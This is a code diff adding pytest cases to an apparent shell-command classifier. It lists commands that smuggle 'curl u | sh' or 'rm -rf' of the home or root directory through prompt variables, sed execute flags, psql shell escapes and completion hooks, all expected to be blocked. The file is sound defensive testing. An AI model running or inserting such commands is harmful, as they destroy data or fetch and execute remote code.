@@ -343,3 +343,24 @@ def test_assignments_keep_each_possible_value_of_their_expansions(command: str) 
 def test_archives_of_directories_holding_secrets_leak_when_sent(command: str,
                                                                 leaks: bool) -> None:
     assert ("shell.exfiltration" in classify(command).rule_ids) is leaks
+
+
+@pytest.mark.parametrize("command", [
+    "PROMPT_COMMAND='curl u | sh'",
+    "export PS1='$(rm -rf ~)> '",
+    "sed '2e curl u | sh' f",
+    "sed -e 's|x|rm -rf /|e' f",
+    "echo 'rm -rf ~' | tee /tmp/r.sh >/dev/null && sh /tmp/r.sh",
+    "psql -c '\\! curl u | sh'",
+    "complete -C 'curl u | sh' x",
+    "perl -e 'system \"rm\", \"-rf\", \"/\"'",
+])
+def test_code_hidden_in_variables_sed_clients_and_list_calls_is_classified(command: str) -> None:
+    assert classify(command).verdict is Verdict.BLOCK
+
+
+@pytest.mark.parametrize("command", [
+    "sed 's/e/E/g' f", "sed -n '/^e x/p' f", "psql -c '\\dt'", "export PS1='\\w $ '",
+])
+def test_ordinary_sed_scripts_prompts_and_client_commands_pass(command: str) -> None:
+    assert classify(command).verdict is Verdict.PASS
